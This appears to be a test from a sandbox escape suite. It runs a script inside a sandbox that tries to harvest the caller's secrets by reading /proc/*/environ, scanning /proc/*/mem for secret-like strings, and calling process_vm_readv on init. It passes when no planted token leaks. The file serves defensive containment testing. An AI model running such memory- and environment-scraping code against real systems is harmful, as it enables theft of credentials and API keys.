#!/usr/bin/python3
"""Read the caller's environment through the sandbox's init (/proc/1/environ and friends).

The sandbox's init is forked from the supervisor without an exec, so its memory still holds the
caller's full environment: /proc/1/environ, /proc/1/mem, process_vm_readv(1) or a ptrace of it
would hand the caller's secrets to the script. The caller runs pysandbox with secrets in its
environment; the script reads /proc/<every pid>/environ, cmdline, auxv, maps+mem, and
process_vm_readv()s init. Contained when no secret appears in the output.
"""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import attack as A

SCRIPT = r'''
import os, re
pids = sorted(int(p) for p in os.listdir("/proc") if p.isdigit())
note("pids", "ok: %r" % pids)
for pid in pids + [1]:
    for name in ("environ", "cmdline", "auxv", "task/%d/environ" % pid):
        r = attempt("read /proc/%d/%s" % (pid, name),
                    lambda: open("/proc/%d/%s" % (pid, name), "rb").read())
        if isinstance(r, bytes):
            print("DATA", pid, name, r[:4000])
    # Scan the process's memory for anything that looks like a secret.
    try:
        maps = open("/proc/%d/maps" % pid).read().splitlines()
        mem = open("/proc/%d/mem" % pid, "rb")
        found = set()
        for line in maps:
            lo, hi = (int(x, 16) for x in line.split()[0].split("-"))
            # gVisor's [vsyscall] is readable, above the offsets a file can seek to.
            if hi - lo > (64 << 20) or "r" not in line.split()[1] or lo >= 1 << 63:
                continue
            try:
                mem.seek(lo)
                chunk = mem.read(hi - lo)
            except OSError:
                continue
            found.update(re.findall(rb"[A-Z_]*SECRET[A-Za-z0-9_=-]{0,80}", chunk))
        note("scan /proc/%d/mem" % pid, "ok: %r" % sorted(found)[:50])
    except OSError as e:
        note("scan /proc/%d/mem" % pid, errno.errorcode.get(e.errno, str(e.errno)))

# process_vm_readv(init): read its stack, where the supervisor's envp lives.
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("len", ctypes.c_size_t)]
try:
    stack = [l for l in open("/proc/self/maps") if "[stack]" in l][0]
except Exception:
    stack = None
buf = ctypes.create_string_buffer(1 << 16)
for addr in (0x7ffd00000000, 0x7fff00000000):
    local = iovec(ctypes.cast(buf, ctypes.c_void_p), len(buf))
    remote = iovec(addr, len(buf))
    r = syscall(310, 1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    note("process_vm_readv(1, %#x)" % addr, r)
    if r > 0:
        print("DATA vm", re.findall(rb"[A-Z_]*SECRET[A-Za-z0-9_=-]{0,80}", buf.raw[:r]))
note("done", 0)
'''


def test():
    judge = A.Judge("caller's secrets via /proc/1/environ, /proc/*/mem, process_vm_readv")
    secrets = {
        "CALLER_SECRET_TOKEN": A.new_secret(),
        "AWS_SECRET_ACCESS_KEY": A.new_secret(),
        "OPENAI_API_KEY": A.new_secret(),
    }
    env = dict(os.environ, **secrets)
    sb = A.Sandbox(SCRIPT, env=env)
    o = sb.run()
    A.check_behaved(judge, sb, allowed=(0,), expect_notes=["done"])
    A.check_secrets(judge, o, {f"${k}": v for k, v in secrets.items()})
    judge.done(o.describe())


if __name__ == "__main__":
    A.main(test)
